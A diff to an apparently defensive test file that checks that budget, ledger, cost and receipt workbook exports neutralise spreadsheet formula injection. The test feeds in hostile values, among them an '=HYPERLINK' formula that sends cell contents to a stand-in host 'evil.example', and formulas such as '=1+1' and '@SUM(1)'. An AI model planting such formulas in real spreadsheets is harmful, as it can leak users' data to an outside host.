@@ -3,18 +3,21 @@
 import * as XLSX from '@e965/xlsx';
 import { beforeAll, describe, expect, test } from 'vitest';
 import { unzipParts } from '../../../electron/documents/zipParts.ts';
+import type { BudgetLine } from '../../../shared/budgets/budget.ts';
 import { inertText, looksLikeFormula } from '../../../shared/kernel/spreadsheetText.ts';
 import { qrText } from '../../../shared/signage/qrText.ts';
 import { qrLabels } from '../../../shared/text/signage.ts';
+import { makeBudget } from '../../support/budgetDesk.ts';
 import { HOSTILE_NAMES, HOSTILE_TEXTS } from '../../support/hostileValues.ts';
 import { officeOf } from '../../support/ledger.ts';
+import { makeReceipt, payFrom } from '../../support/moneyDesk.ts';
 import { optionsOf, pdfText } from '../../support/signageDesk.ts';
 import { openTestDesk, stationFieldsOf, type TestDesk } from '../../support/testDesk.ts';
 
 /** A name that no system refuses and that leads nowhere. */
 const HARMLESS_NAME = /^(?!\.)[^\\/:*?"<>|\p{Cc}\p{Cs}\u200e\u200f\u202a-\u202e\u2066-\u2069]+(?<![. ])$/u;
 /** Sums of the form itself. */
-const OWN_FORMULA = /^(SUM\([A-Z]+\d+:[A-Z]+\d+\)|[A-Z]+\d+(\+[A-Z]+\d+)*)$/;
+const OWN_FORMULA = /^(SUM\([A-Z]+\d+:[A-Z]+\d+\)|[A-Z]+\d+(\+[A-Z]+\d+)*)(-[A-Z]+\d+)*$/;
 const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点这里")';
 
 let desk: TestDesk;
@@ -106,6 +109,21 @@ describe('workbooks', () => {
       const texts = textsOf(await bytesOf(file));
       expect(texts.some((text) => text.includes('HYPERLINK'))).toBe(true);
       expect(texts.some((text) => text.includes('@SUM(1+1)'))).toBe(true);
+    }
+  });
+
+  test('the forms of money: names of lines, receipts and payees calculate nothing', async () => {
+    await makeReceipt(desk, { name: EVIL, payer: '=1+1', documentNo: '-2+3', remark: '@SUM(1)' });
+    const { budget, lines } = await makeBudget(desk, [{ name: EVIL, remark: '=1+1' }]);
+    await payFrom(desk, lines[0] as BudgetLine, { amountFen: 1, payee: '=1+1', voucherNo: '@SUM(1)', remark: '+1+1', stationId });
+    for (const file of [
+      await desk.client.budgets.executionWorkbook({ id: budget.id, asOf: '2023-09-20' }),
+      await desk.client.funds.ledgerWorkbook({ from: '2023-01-01', to: '2023-09-20' }),
+      await desk.client.funds.costWorkbook({}),
+      await desk.client.receipts.earmarkedWorkbook({ asOf: '2023-09-20' }),
+    ]) {
+      expect(file.name).toMatch(HARMLESS_NAME);
+      textsOf(await bytesOf(file));
     }
   });
 
